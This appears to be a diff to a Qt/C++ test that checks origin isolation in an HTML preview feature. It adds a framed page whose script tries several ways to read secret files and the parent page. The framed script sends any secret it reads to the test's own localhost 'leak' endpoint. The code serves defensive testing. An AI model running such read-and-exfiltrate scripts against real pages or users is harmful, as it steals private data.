@@ -238,6 +238,9 @@ const own = [
   ['image pixels', ownImage.then(i => {
       const c = element('canvas', { width: 5, height: 5 }); const g = c.getContext('2d');
       g.drawImage(i, 0, 0); return 'OWN ' + g.getImageData(2, 2, 1, 1).data.join(); })],
+  ['framed', new Promise((res, rej) => {
+      addEventListener('message', e => { if (e.data === 'framed done') res('OWN ran'); });
+      setTimeout(rej, 20000); element('iframe', { src: 'framed.html' }); })],
   ['cdn style', wait(0).then(() => document.readyState === 'complete' ? 0 : loaded(window))
       .then(() => 'OWN ' + getComputedStyle(document.body).color)],
   ['cdn image', Promise.resolve(document.getElementById('cdn')).then(i =>
@@ -287,6 +290,38 @@ allAdded.then(() => Promise.all(own.concat(attempts)))
     .then(() => send('done', attempts.length + (INSIDE.length > 2 ? ' file host' : ''), ''));
 )JS";
 
+// A document of the page's folder shown in a frame tries the reads again from
+// where it is served: the folder's file host, which must not make it one
+// origin with the files. PORT is the collecting server's.
+const char* const kFramed = R"JS(<!DOCTYPE html><p>Framed</p><script>
+const leak = (what, data) => String(data).indexOf('SECRET') < 0 ? 0 :
+  fetch('http://127.0.0.1:PORT/leak?what=' + encodeURIComponent('framed ' + what) + '&data=' +
+        encodeURIComponent(String(data).slice(0, 300)), { mode: 'no-cors' }).catch(() => {});
+const settle = (run, ok) => new Promise((res, rej) => run(v => { try { res(ok(v)); }
+  catch (e) { rej(e); } }, rej));
+const tries = {
+  fetch: () => fetch('secret.txt').then(r => r.text()),
+  xhr: () => settle((res, rej) => { const x = new XMLHttpRequest(); x.onload = () => res(x);
+    x.onerror = rej; x.open('GET', 'letters/secret.txt'); x.send(); }, x => x.responseText),
+  json: () => import('./secret.json', { assert: { type: 'json' } })
+    .then(m => JSON.stringify(m.default)),
+  'css rules': () => settle((res, rej) => { const l = document.createElement('link');
+    l.rel = 'stylesheet'; l.href = 'secret.css'; l.onload = () => res(l); l.onerror = rej;
+    document.head.appendChild(l); }, l => Array.from(l.sheet.cssRules).map(r => r.cssText).join()),
+  canvas: () => settle((res, rej) => { const i = new Image(); i.onload = () => res(i);
+    i.onerror = rej; i.src = 'secret.svg'; }, i => { const c = document.createElement('canvas');
+    c.width = c.height = 5; const g = c.getContext('2d'); g.drawImage(i, 0, 0);
+    return 'SECRET_PIXELS ' + g.getImageData(2, 2, 1, 1).data.join(); }),
+  'frame of a file': () => settle((res, rej) => { const f = document.createElement('iframe');
+    f.onload = () => res(f); f.src = 'secret.txt'; document.body.appendChild(f); },
+    f => f.contentDocument.documentElement.textContent),
+  'the page': () => parent.document.documentElement.outerHTML,
+};
+Promise.all(Object.entries(tries).map(([what, run]) => Promise.race([
+  Promise.resolve().then(run).then(d => leak(what, d), () => {}),
+  new Promise(r => setTimeout(r, 5000))]))).then(() => parent.postMessage('framed done', '*'));
+</script>)JS";
+
 QString jsonList(const QStringList& items) {
   return QString::fromUtf8(
       QJsonDocument(QJsonArray::fromStringList(items)).toJson(QJsonDocument::Compact));
@@ -333,6 +368,8 @@ class PreviewIsolationTest final : public QObject {
 
     WebServer server;
     QVERIFY(server.port() != 0);
+    testfiles::write(QDir(home).filePath("framed.html"),
+                     QByteArray(kFramed).replace("PORT", QByteArray::number(server.port())));
     const QString outsideFile = QUrl::fromLocalFile(outside).toString() + u'/';
     const QString otherFolder =
         pagescheme::urlOf(QDir(outside).filePath("users page.htm")).resolved(QUrl("./")).toString();
@@ -405,7 +442,7 @@ class PreviewIsolationTest final : public QObject {
     // own files' contents worked either.
     own.sort();
     QCOMPARE(own, (QStringList{"cdn image=OWN 9", "cdn style=OWN rgb(1, 2, 3)",
-                               "css applied=OWN \"OWN css\"", "image shown=OWN 5",
+                               "css applied=OWN \"OWN css\"", "framed=OWN ran", "image shown=OWN 5",
                                "module=OWN module", "script=OWN script"}));
     refused.sort();
     QCOMPARE(refused,
